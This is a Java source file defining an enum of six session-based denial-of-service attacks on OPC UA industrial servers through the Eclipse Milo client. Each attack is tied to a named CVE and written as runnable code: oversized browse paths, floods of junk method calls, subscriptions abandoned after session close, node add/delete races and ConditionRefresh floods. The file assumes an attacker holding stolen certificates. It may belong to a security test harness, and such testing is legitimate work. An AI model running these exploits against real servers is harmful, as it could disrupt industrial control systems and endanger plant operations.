package io.venule.opcua;

import static org.eclipse.milo.opcua.stack.core.types.builtin.unsigned.Unsigned.ubyte;
import static org.eclipse.milo.opcua.stack.core.types.builtin.unsigned.Unsigned.uint;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.IntStream;
import org.eclipse.milo.opcua.sdk.client.OpcUaClient;
import org.eclipse.milo.opcua.stack.core.AttributeId;
import org.eclipse.milo.opcua.stack.core.NodeIds;
import org.eclipse.milo.opcua.stack.core.types.builtin.ByteString;
import org.eclipse.milo.opcua.stack.core.types.builtin.ExpandedNodeId;
import org.eclipse.milo.opcua.stack.core.types.builtin.NodeId;
import org.eclipse.milo.opcua.stack.core.types.builtin.QualifiedName;
import org.eclipse.milo.opcua.stack.core.types.builtin.Variant;
import org.eclipse.milo.opcua.stack.core.types.enumerated.BrowseDirection;
import org.eclipse.milo.opcua.stack.core.types.enumerated.MonitoringMode;
import org.eclipse.milo.opcua.stack.core.types.enumerated.NodeClass;
import org.eclipse.milo.opcua.stack.core.types.enumerated.TimestampsToReturn;
import org.eclipse.milo.opcua.stack.core.types.structured.AddNodesItem;
import org.eclipse.milo.opcua.stack.core.types.structured.BrowseDescription;
import org.eclipse.milo.opcua.stack.core.types.structured.BrowsePath;
import org.eclipse.milo.opcua.stack.core.types.structured.CallMethodRequest;
import org.eclipse.milo.opcua.stack.core.types.structured.CloseSessionRequest;
import org.eclipse.milo.opcua.stack.core.types.structured.DeleteNodesItem;
import org.eclipse.milo.opcua.stack.core.types.structured.MonitoredItemCreateRequest;
import org.eclipse.milo.opcua.stack.core.types.structured.MonitoringParameters;
import org.eclipse.milo.opcua.stack.core.types.structured.ReadValueId;
import org.eclipse.milo.opcua.stack.core.types.structured.RelativePath;
import org.eclipse.milo.opcua.stack.core.types.structured.RelativePathElement;

/**
 * The attacks of the same catalogue that need a session: by one who stole the server's certificate and its user's, and speaks through the stack's own client. T-22.
 */
enum ThiefsAttack {
    /** A way there and back, ten thousand times. CVE-2022-29866. */
    LONG_BROWSE_PATH {
        @Override
        void once(OpcUaClient client) {
            var path = thereAndBack(10_000);
            end(client.translateBrowsePathsAsync(List.of(path)));
            end(client.translateBrowsePathsAsync(Collections.nCopies(200, path)));
        }
    },
    /** Five hundred calls at once. CVE-2022-30551. */
    ALL_AT_ONCE {
        @Override
        void once(OpcUaClient client) {
            var calls = new ArrayList<CompletableFuture<?>>();
            for (int i = 0; i < 500; i++) {
                calls.add(client.callAsync(List.of(junk())));
            }
            calls.forEach(ThiefsAttack::end);
        }
    },
    /** Subscriptions with as many items as fit, left behind by a session that is closed. CVE-2022-25897. */
    SUBSCRIPTIONS_LEFT_BEHIND {
        @Override
        void once(OpcUaClient client) throws Exception {
            for (int i = 0; i < 10; i++) {
                client.createSubscriptionAsync(50.0, uint(60_000), uint(20_000), uint(0), true, ubyte(0))
                        .handle((made, no) -> made == null
                                ? null
                                : end(client.createMonitoredItemsAsync(
                                        made.getSubscriptionId(), TimestampsToReturn.Both, items())))
                        .get(10, TimeUnit.SECONDS);
            }
            leave(client);
        }
    },
    /** Calls, and the session closed before they are answered. CVE-2022-1748. */
    CALLED_AND_GONE {
        @Override
        void once(OpcUaClient client) throws Exception {
            for (int i = 0; i < 50; i++) {
                var _ = client.callAsync(List.of(junk()));
            }
            leave(client);
        }
    },
    /** Nodes added and removed while everything is browsed. CVE-2023-32172. */
    CHANGED_WHILE_BROWSED {
        @Override
        void once(OpcUaClient client) {
            var work = new ArrayList<CompletableFuture<?>>();
            for (int i = 0; i < 100; i++) {
                work.add(client.addNodesAsync(List.of(node(i))));
                work.add(client.browseAsync(Collections.nCopies(100, everythingBelow(NodeIds.RootFolder))));
                work.add(client.deleteNodesAsync(List.of(new DeleteNodesItem(new NodeId(1, "n" + i), true))));
            }
            work.forEach(ThiefsAttack::end);
        }
    },
    /** Every condition asked for again and again. CVE-2023-27321. */
    CONDITIONS_REFRESHED {
        @Override
        void once(OpcUaClient client) throws Exception {
            var made = client.createSubscriptionAsync(100.0, uint(1_000), uint(100), uint(0), true, ubyte(0))
                    .get(10, TimeUnit.SECONDS);
            var refresh =
                    new CallMethodRequest(NodeIds.ConditionType, NodeIds.ConditionType_ConditionRefresh, new Variant[] {
                        Variant.of(made.getSubscriptionId())
                    });
            var work = new ArrayList<CompletableFuture<?>>();
            for (int i = 0; i < 200; i++) {
                work.add(client.callAsync(Collections.nCopies(10, refresh)));
            }
            work.forEach(ThiefsAttack::end);
            leave(client);
        }
    };

    abstract void once(OpcUaClient client) throws Exception;

    /** An order that is none. */
    private static CallMethodRequest junk() {
        return new CallMethodRequest(NodeIds.Server, NodeIds.Server_GetMonitoredItems, new Variant[] {
            Variant.of(ByteString.of(new byte[30_000]))
        });
    }

    private static List<MonitoredItemCreateRequest> items() {
        var what = new ReadValueId(
                NodeIds.Server_ServerStatus_CurrentTime, AttributeId.Value.uid(), null, QualifiedName.NULL_VALUE);
        return Collections.nCopies(
                200,
                new MonitoredItemCreateRequest(
                        what,
                        MonitoringMode.Reporting,
                        new MonitoringParameters(uint(1), 50.0, null, uint(1_000), true)));
    }

    private static BrowseDescription everythingBelow(NodeId from) {
        return new BrowseDescription(from, BrowseDirection.Both, NodeIds.References, true, uint(0), uint(63));
    }

    private static AddNodesItem node(int number) {
        return new AddNodesItem(
                NodeIds.ObjectsFolder.expanded(),
                NodeIds.Organizes,
                new NodeId(1, "n" + number).expanded(),
                new QualifiedName(1, "n" + number),
                NodeClass.Object,
                null,
                ExpandedNodeId.NULL_VALUE);
    }

    /** A way of so many steps, between two nodes. */
    static BrowsePath thereAndBack(int length) {
        var steps = IntStream.range(0, length)
                .mapToObj(i -> i % 2 == 0 ? step(false, "Objects") : step(true, "Root"))
                .toArray(RelativePathElement[]::new);
        return new BrowsePath(NodeIds.RootFolder, new RelativePath(steps));
    }

    private static RelativePathElement step(boolean back, String name) {
        return new RelativePathElement(NodeIds.HierarchicalReferences, back, true, new QualifiedName(0, name));
    }

    /** Closes the session, and wants its subscriptions kept. */
    private static void leave(OpcUaClient client) throws Exception {
        var session = client.getSession();
        end(client.sendRequestAsync(
                new CloseSessionRequest(client.newRequestHeader(session.getAuthenticationToken()), false)));
    }

    /** Waits for it, whatever comes of it. */
    private static boolean end(CompletableFuture<?> future) {
        return future.handle((said, no) -> no == null)
                .completeOnTimeout(false, 10, TimeUnit.SECONDS)
                .join();
    }
}
